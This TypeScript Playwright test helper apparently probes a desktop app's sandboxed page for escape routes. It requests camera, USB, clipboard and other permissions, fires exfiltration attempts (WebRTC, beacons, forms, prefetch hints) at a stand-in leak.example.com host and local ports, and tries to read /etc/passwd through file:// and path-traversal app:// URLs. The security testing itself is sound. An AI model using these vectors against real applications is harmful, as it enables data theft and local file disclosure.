import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer, type AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'

/** Counts what arrives on this computer. */
export interface Listeners {
  readonly udpPort: number
  readonly tcpPort: number
  readonly arrived: () => { readonly packets: number; readonly connections: number }
  close(): void
}

export async function listenForEscapes(): Promise<Listeners> {
  let [packets, connections] = [0, 0]
  const udp = createSocket('udp4').on('message', () => (packets += 1))
  const tcp = createServer((socket) => {
    connections += 1
    socket.destroy()
  })
  udp.bind(0, '127.0.0.1')
  tcp.listen(0, '127.0.0.1')
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')])
  return {
    udpPort: udp.address().port,
    tcpPort: (tcp.address() as AddressInfo).port,
    arrived: () => ({ packets, connections }),
    close() {
      udp.close()
      tcp.close()
    },
  }
}

/** What script in the page tries, in the way it has the best chance: as if a user had just clicked. */
export async function evaluateWithGesture<T>(page: Page, expression: string): Promise<T> {
  const session = await page.context().newCDPSession(page)
  try {
    const { result, exceptionDetails } = await session.send('Runtime.evaluate', {
      expression,
      userGesture: true,
      awaitPromise: true,
      returnByValue: true,
    })
    if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text)
    return result.value as T
  } finally {
    await session.detach()
  }
}

/** Each by the API that a page asks for it with; refused with an error, or by its answer. */
const permissions: Readonly<Record<string, string>> = {
  camera: 'navigator.mediaDevices.getUserMedia({ video: true })',
  microphone: 'navigator.mediaDevices.getUserMedia({ audio: true })',
  screen: 'navigator.mediaDevices.getDisplayMedia()',
  position: 'new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))',
  notifications: "Notification.requestPermission().then((it) => (it === 'denied' ? Promise.reject() : it))",
  clipboard: 'navigator.clipboard.readText()',
  midi: 'navigator.requestMIDIAccess({ sysex: true })',
  usb: 'navigator.usb.requestDevice({ filters: [] })',
  hid: 'navigator.hid.requestDevice({ filters: [] })',
  serial: 'navigator.serial.requestPort()',
  bluetooth: 'navigator.bluetooth.requestDevice({ acceptAllDevices: true })',
  openFile: 'showOpenFilePicker()',
  saveFile: 'showSaveFilePicker()',
  folder: 'showDirectoryPicker()',
  fonts: 'queryLocalFonts().then((it) => (it.length === 0 ? Promise.reject() : it))',
  screens: 'getScreenDetails()',
  idle: "IdleDetector.requestPermission().then((it) => (it === 'granted' ? it : Promise.reject()))",
  wakeLock: "navigator.wakeLock.request('screen')",
  storage: 'navigator.storage.persist().then((it) => it || Promise.reject())',
  credentials: 'navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } })',
  share: "navigator.share({ title: 'x' })",
}

const answerPatienceMs = 30_000

/**
 * The permissions that were granted, and those that were left unanswered: a question to somebody is not a refusal. The
 * first question for a camera starts a process of Chromium's, so an answer may take seconds where the machine is busy.
 */
export async function grantedPermissions(page: Page): Promise<string[]> {
  const granted: string[] = []
  for (const [name, ask] of Object.entries(permissions)) {
    const outcome = await evaluateWithGesture<'refused' | 'granted' | 'unanswered'>(
      page,
      `Promise.race([
        (async () => ${ask})().then(() => 'granted', () => 'refused'),
        new Promise((resolve) => setTimeout(() => resolve('unanswered'), ${answerPatienceMs})),
      ])`,
    )
    if (outcome !== 'refused') granted.push(`${name}: ${outcome}`)
  }
  return granted
}

/** Tries every way out of a page that is known, to `*.leak.example.com` and to the ports. None is reported to it. */
export async function tryToEscape(page: Page, { udpPort, tcpPort }: Listeners): Promise<void> {
  await page.evaluate(
    async ({ udp, tcp }) => {
      const add = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        document.body.append(element)
        return element
      }
      const attempt = async (work: () => unknown) => {
        await Promise.resolve()
          .then(work)
          .catch(() => undefined)
      }
      const hints = [
        'dns-prefetch',
        'preconnect',
        'prefetch',
        'preload',
        'modulepreload',
        'stylesheet',
        'icon',
        'prerender',
      ]
      for (const rel of hints) {
        add('link', { rel, href: `https://${rel}.leak.example.com/a`, as: 'image' })
        add('link', { rel, href: `http://127.0.0.1:${tcp}/a`, as: 'image' })
      }
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:127.0.0.1:${udp}` },
          { urls: 'stun:stun.leak.example.com:3478' },
          { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'secret', credential: 'secret' },
          { urls: 'turns:turn.leak.example.com:443?transport=tcp', username: 'secret', credential: 'secret' },
        ],
      })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      for (const tag of ['img', 'video', 'audio', 'embed', 'iframe', 'source', 'track', 'input']) {
        add(tag, { src: `https://${tag}.leak.example.com/a`, type: 'image' })
      }
      add('object', { data: 'https://object.leak.example.com' })
      add('webview', { src: 'https://webview.leak.example.com' })
      add('meta', { 'http-equiv': 'refresh', content: '0;url=https://refresh.leak.example.com' })
      add('div', { style: 'background: url(https://style.leak.example.com/a)' })
      add('a', { href: 'https://link.leak.example.com', ping: 'https://ping.leak.example.com' }).click()
      add('a', { href: 'https://blank.leak.example.com', target: '_blank' }).click()
      ;(add('form', { action: 'https://form.leak.example.com', method: 'post' }) as HTMLFormElement).submit()
      await attempt(() => navigator.sendBeacon(`http://127.0.0.1:${tcp}/beacon`, 'secret'))
      await attempt(() => new WebSocket(`ws://127.0.0.1:${tcp}`))
      await attempt(() => new EventSource(`http://127.0.0.1:${tcp}/events`))
      await attempt(() => new WebTransport(`https://127.0.0.1:${udp}`))
      await attempt(() => new Worker('https://worker.leak.example.com/a.js'))
      await attempt(() => navigator.serviceWorker.register('/worker.js'))
      await attempt(() => fetch(`http://127.0.0.1:${tcp}/fetch`, { mode: 'no-cors' }))
      await attempt(() => location.assign('https://assign.leak.example.com'))
      // As long as the slowest, WebRTC, takes to send its first packet many times over.
      await new Promise((resolve) => setTimeout(resolve, 2_000))
      peer.close()
    },
    { udp: udpPort, tcp: tcpPort },
  )
}

/** Tries to save a file and to read one; returns what was read. */
export async function tryFiles(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const save = (href: string) => {
      const link = document.createElement('a')
      Object.assign(link, { href, download: 'dropped.txt' })
      document.body.append(link)
      link.click()
    }
    save(URL.createObjectURL(new Blob(['saved by the page'])))
    save('data:text/plain,saved')
    const read: string[] = []
    for (const url of [
      'file:///etc/passwd',
      'app://atelier/../../../etc/passwd',
      'app://atelier/..%2f..%2fpackage.json',
    ]) {
      await fetch(url)
        .then(async (response) => response.ok && read.push(await response.text()))
        .catch(() => undefined)
    }
    // Saving is the work of another process, which tells the page neither that it does nor that it does not.
    await new Promise((resolve) => setTimeout(resolve, 300))
    return read
  })
}
